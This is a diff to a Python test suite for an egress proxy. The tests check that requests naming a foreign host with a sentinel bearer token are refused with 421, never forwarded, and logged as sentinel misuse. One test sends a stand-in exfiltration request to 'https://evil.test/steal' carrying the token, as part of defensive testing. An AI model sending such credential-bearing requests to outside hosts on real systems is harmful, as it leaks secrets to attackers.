@@ -244,11 +244,13 @@ def body_of(answer: bytes) -> bytes:
 
 def test_absolute_form_target_naming_another_host_is_refused(stage: Stage) -> None:
     """`GET https://evil.test/` inside the API's tunnel (a shared front-end would route by it)
-    is 421 and never forwarded with the secret."""
+    is 421, never forwarded with the secret, and audited as the sentinel's misuse."""
     sentinel = stage.sentinels[GITHUB]
     answer = stage.get("https://evil.test/steal", f"Authorization: Bearer {sentinel}")
     assert answer.startswith(b"HTTP/1.1 421")
     assert stage.upstream.requests == []
+    [misuse] = stage.audit.wait("egress.sentinel_misuse")
+    assert misuse["binding"] == GITHUB and "only" in misuse["reason"]
 
 
 def test_absolute_form_naming_the_tunnel_host_goes_in_origin_form(stage: Stage) -> None:
@@ -280,6 +282,7 @@ def test_host_header_naming_another_host_is_refused(stage: Stage) -> None:
         request = f"GET / HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {sentinel}\r\n\r\n"
         assert stage.exchange(request.encode()).startswith(b"HTTP/1.1 421")
     assert stage.upstream.requests == []
+    assert len(stage.audit.wait("egress.sentinel_misuse", 3)) == 3
 
 
 def test_http10_request_without_host_gets_the_tunnel_host(stage: Stage) -> None:
